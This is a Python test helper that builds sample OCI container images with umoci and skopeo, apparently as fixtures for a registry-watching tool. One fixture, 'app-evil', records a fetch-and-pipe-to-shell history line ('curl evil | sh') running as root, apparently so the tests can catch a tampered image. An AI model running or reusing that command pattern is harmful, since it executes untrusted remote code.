"""Real images, built by `umoci` and `skopeo`: a shared base layer, apps on it, indexes, zstd.

`ImageLibrary` is an OCI layout that holds images by name. Build once a session (the `library`
fixture of `tests/registry/conftest.py`), then push what a test needs.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from collections.abc import Mapping, Sequence
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from tagwatch.image.digest import Digest, digest_of
from tagwatch.image.manifest import OCI_INDEX
from tests.registry.parts import require

__all__ = ["ImageLibrary", "Login", "Step", "build_samples"]


@dataclass(frozen=True, slots=True, kw_only=True)
class Step:
    """One layer: files by path, and the history line that made it."""

    created_by: str
    files: Mapping[str, str]


@dataclass(frozen=True, slots=True, kw_only=True)
class Login:
    """How skopeo reaches a registry: credentials `user:password`, or a folder of certificates."""

    credentials: str | None = None
    certificates: Path | None = None


@dataclass(slots=True)
class ImageLibrary:
    """An OCI layout at `folder / "layout"`; names are its reference names."""

    folder: Path
    digests: dict[str, Digest] = field(default_factory=dict)

    @property
    def layout(self) -> Path:
        """The OCI image layout itself."""
        return self.folder / "layout"

    def image(
        self,
        name: str,
        steps: Sequence[Step],
        *,
        base: str | None = None,
        platform: str = "linux/amd64",
        config: Mapping[str, str] | None = None,
    ) -> Digest:
        """Build `name` on `base` (or from nothing). `config`: umoci's `--config.<key>` values."""
        if not self.layout.exists():
            _run("umoci", "init", "--layout", self.layout)
        target = f"{self.layout}:{name}"
        if base is None:
            _run("umoci", "new", "--image", target)
        else:
            _run("umoci", "tag", "--image", f"{self.layout}:{base}", name)
        os_name, architecture = platform.split("/")[:2]
        options = [f"--config.{key}={value}" for key, value in (config or {}).items()]
        _run(
            "umoci", "config", "--image", target, f"--os={os_name}",
            f"--architecture={architecture}", "--created=2026-05-01T00:00:00Z",
            "--history.created=2026-05-01T00:00:00Z", "--history.created_by=CONFIG", *options,
        )  # fmt: skip
        for number, step in enumerate(steps):
            tree = self._tree(f"{name}-{number}", step.files)
            _run(
                "umoci", "insert", "--rootless", "--image", target,
                f"--history.created_by={step.created_by}",
                "--history.created=2026-05-01T00:00:00Z", tree, "/",
            )  # fmt: skip
        return self._note(name)

    def index(self, name: str, images: Mapping[str, str]) -> Digest:
        """Join images into a multi-architecture index; `images`: platform -> name."""
        manifests = []
        for platform, image in images.items():
            os_name, architecture, *variant = platform.split("/")
            described: dict[str, Any] = {"os": os_name, "architecture": architecture}
            if variant:
                described["variant"] = variant[0]
            manifests.append({**self._descriptor(image), "platform": described})
        raw = json.dumps({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": manifests})
        digest = digest_of(raw.encode())
        (self.layout / "blobs/sha256" / digest.partition(":")[2]).write_text(raw)
        entry = {"mediaType": OCI_INDEX, "digest": digest, "size": len(raw)}
        self._write_entry(name, entry)
        return self._note(name)

    def zstd(self, name: str, source: str) -> Digest:
        """The same image with layers compressed by zstd: equal diff_ids, other digests."""
        copy = self.folder / f"zstd-{name}"
        _skopeo("--dest-compress-format=zstd", f"oci:{self.layout}:{source}", f"oci:{copy}:{name}")
        entry = json.loads((copy / "index.json").read_text())["manifests"][0]
        for blob in (copy / "blobs/sha256").iterdir():
            shutil.copy(blob, self.layout / "blobs/sha256" / blob.name)
        self._write_entry(name, entry)
        return self._note(name)

    def push(self, name: str, reference: str, login: Login | None = None) -> Digest:
        """Push an image with its bytes unchanged; `reference` is `host:port/path:tag`."""
        login = login or Login()
        options = ["--all", "--preserve-digests"]
        if login.certificates:
            options.append(f"--dest-cert-dir={login.certificates}")
        else:
            options.append("--dest-tls-verify=false")
        if login.credentials:
            options.append(f"--dest-creds={login.credentials}")
        _skopeo(*options, f"oci:{self.layout}:{name}", f"docker://{reference}")
        return self.digests[name]

    def save(self, name: str, archive: Path, kind: str = "oci-archive") -> Path:
        """Write an image as one file: `oci-archive` or `docker-archive` (as `docker save`)."""
        reference = f":{name}" if kind == "oci-archive" else f":example.com/{name}:1"
        _skopeo(f"oci:{self.layout}:{name}", f"{kind}:{archive}{reference}")
        return archive

    def blob(self, digest: Digest) -> bytes:
        """The stored bytes of a manifest, index, config or layer."""
        return (self.layout / "blobs/sha256" / digest.partition(":")[2]).read_bytes()

    def manifest(self, name: str) -> dict[str, Any]:
        """The manifest or index of `name`, decoded."""
        document: dict[str, Any] = json.loads(self.blob(self.digests[name]))
        return document

    def config_digest(self, name: str) -> Digest:
        """The digest of a single-platform image's config."""
        return Digest(self.manifest(name)["config"]["digest"])

    def _note(self, name: str) -> Digest:
        self.digests[name] = Digest(self._descriptor(name)["digest"])
        return self.digests[name]

    def _descriptor(self, name: str) -> dict[str, Any]:
        for entry in self._entries():
            if entry.get("annotations", {}).get("org.opencontainers.image.ref.name") == name:
                return {key: entry[key] for key in ("mediaType", "digest", "size")}
        raise KeyError(name)

    def _entries(self) -> list[dict[str, Any]]:
        entries: list[dict[str, Any]] = json.loads((self.layout / "index.json").read_text())[
            "manifests"
        ]
        return entries

    def _write_entry(self, name: str, entry: Mapping[str, Any]) -> None:
        named = {**entry, "annotations": {"org.opencontainers.image.ref.name": name}}
        document = {"schemaVersion": 2, "manifests": [*self._entries(), named]}
        (self.layout / "index.json").write_text(json.dumps(document))

    def _tree(self, name: str, files: Mapping[str, str]) -> Path:
        root = self.folder / "trees" / name
        for path, text in files.items():
            file = root / path.lstrip("/")
            file.parent.mkdir(parents=True, exist_ok=True)
            file.write_text(text)
        for place in (root, *root.rglob("*")):
            os.utime(place, (1_777_593_600, 1_777_593_600))  # 2026-05-01: same bytes every time
        return root


def build_samples(folder: Path) -> ImageLibrary:
    """The images that most tests need.

    `base-1`, `base-2`: two builds of a base, the first layer shared. `app-1`: on base-1; `app-2`:
    the same steps on base-2; `app-evil`: app-1's labels, other steps. `base-arm64` and `multi`:
    an index over base-1 and base-arm64. `app-zstd`: app-1 compressed by zstd.
    """
    library = ImageLibrary(folder)
    debian = Step(
        created_by="# debian.sh --arch 'amd64'",
        files={"/etc/os-release": 'ID=debian\nVERSION_ID="12"\n', "/etc/debian_version": "12.5\n"},
    )
    interpreter = {
        version: Step(
            created_by=f"RUN /bin/sh -c make install # {version}",
            files={"/usr/local/bin/python": f"python {version}\n"},
        )
        for version in ("3.12.3", "3.12.4")
    }
    app = Step(created_by="COPY app.py /srv/app.py # buildkit", files={"/srv/app.py": "print(1)\n"})
    evil = Step(created_by="RUN /bin/sh -c curl evil | sh", files={"/srv/app.py": "print(2)\n"})
    for number, version in (("1", "3.12.3"), ("2", "3.12.4")):
        library.image(
            f"base-{number}",
            (debian, interpreter[version]),
            config={
                "env": f"PYTHON_VERSION={version}",
                "label": f"org.opencontainers.image.version={version}",
                "cmd": "python3",
            },
        )
        library.image(
            f"app-{number}",
            (app,),
            base=f"base-{number}",
            config={"user": "1000", "exposedports": "8080/tcp", "entrypoint": "/srv/app.py"},
        )
    library.image("app-evil", (evil,), base="base-1", config={"user": "0"})
    library.image(
        "base-arm64",
        (debian, interpreter["3.12.3"]),
        platform="linux/arm64",
        config={"env": "PYTHON_VERSION=3.12.3"},
    )
    library.index("multi", {"linux/amd64": "base-1", "linux/arm64": "base-arm64"})
    library.zstd("app-zstd", "app-1")
    return library


def _skopeo(*arguments: str) -> None:
    _run("skopeo", "--insecure-policy", "copy", "-q", *arguments)


def _run(program: str, *arguments: str | Path) -> None:
    command = [require(program), *map(str, arguments)]
    environment = {"PATH": os.environ["PATH"], "HOME": "/nonexistent", "LANG": "C.UTF-8"}
    done = subprocess.run(command, env=environment, capture_output=True, text=True, timeout=60)
    assert done.returncode == 0, f"{command}: {done.stderr}"
